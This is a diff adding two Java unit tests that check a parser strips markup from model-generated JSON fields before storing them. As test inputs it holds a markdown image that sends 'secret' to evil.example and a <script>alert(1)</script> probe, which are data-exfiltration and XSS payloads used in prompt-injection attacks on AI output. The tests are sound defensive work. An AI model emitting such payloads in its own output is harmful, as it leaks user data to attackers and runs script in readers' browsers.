@@ -275,6 +275,26 @@ class InsightParserTest {
   }
 
   @Test
+  void markupInModelTextsIsRemovedBeforeStoring() {
+    Insight insight =
+        accepted(
+            "{\"intent\": \"billing\", \"summary\": \"<b>Charged</b> twice.\","
+                + " \"suggested_reply\": \"We refund it. ![x](https://evil.example/?q=secret)"
+                + "<script>alert(1)</script>\"}");
+    assertEquals("Charged twice.", insight.summary());
+    assertEquals("We refund it.", insight.suggestedReply());
+  }
+
+  @Test
+  void aReplyThatIsOnlyMarkupIsBlank() {
+    assertEquals(
+        "suggested_reply is blank",
+        rejected(
+            "{\"intent\": \"billing\", \"summary\": \"Charged twice.\","
+                + " \"suggested_reply\": \"![x](https://evil.example/?q=secret)\"}"));
+  }
+
+  @Test
   void markdownLinksDoNotUseUpCandidates() {
     // Only a [ directly before { starts a candidate, so brackets in prose cost nothing.
     String prose = "See [the docs](https://example.com) and [1]. ".repeat(100);
